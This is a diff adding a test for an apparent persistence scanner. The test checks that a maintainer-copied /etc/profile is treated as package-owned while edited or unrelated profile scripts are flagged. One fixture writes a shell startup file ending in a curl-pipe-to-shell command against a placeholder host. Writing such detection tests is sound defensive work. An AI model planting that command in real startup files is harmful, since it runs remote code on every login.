@@ -110,4 +110,32 @@ with Tree() as t:
         s = summary(jsonl(out))
         ok(s["modules"]["persist"]["files"] >= len(deep) + 40, f"files counted: {s['modules']['persist']}")
 
+# A file a maintainer script copied into place (base-files copies
+# /usr/share/base-files/profile to /etc/profile): no package lists the copy,
+# but a package ships the same bytes, so it is not "not owned by any
+# package". An edited copy and an unrelated file still are.
+import hashlib  # noqa: E402
+with Tree() as t:
+    shipped = b"# /etc/profile: system-wide .profile file for the Bourne shell\nPATH=/usr/bin:/bin\n"
+    t.write("usr/share/base-files/profile", shipped)
+    t.write("usr/share/base-files/dot.bashrc", b"# ~/.bashrc\n")
+    t.write("etc/profile", shipped)
+    t.write("etc/profile.d/edited.sh", shipped + b"curl -s http://x | sh\n")
+    t.write("etc/profile.d/extra.sh", b"export A=1\n")
+    t.write("var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\nVersion: 12.4\n"
+            "Architecture: amd64\n\n")
+    t.write("var/lib/dpkg/info/base-files.list", "/usr/share/base-files/profile\n/usr/share/base-files/dot.bashrc\n")
+    t.write("var/lib/dpkg/info/base-files.md5sums",
+            f"{hashlib.md5(shipped).hexdigest()}  usr/share/base-files/profile\n"
+            f"{hashlib.md5(b'# ~/.bashrc').hexdigest()}  usr/share/base-files/dot.bashrc\n")
+    code, out, err = run("scan", "--root", t.path, "--only", "persist", "--no-db", "--format", "jsonl",
+                         "-q", "--fail-on", "none", "--recent", "0", "--all")
+    ok(code == 0, f"exit {code}: {err}")
+    lines = jsonl(out)
+    unowned = sorted(f["evidence"]["path"] for f in findings(lines) if "not owned" in f["evidence"].get("verdict", ""))
+    ok(unowned == ["/etc/profile.d/edited.sh", "/etc/profile.d/extra.sh"],
+       f"only the files no package ships are unowned: {unowned}")
+    prof = [c for c in lines if c.get("type") == "check" and c.get("title", "").endswith("/etc/profile")]
+    ok(len(prof) == 1 and prof[0]["result"] == "passed", f"/etc/profile is the package's copy: {prof}")
+
 done("test_persist_root", checks)
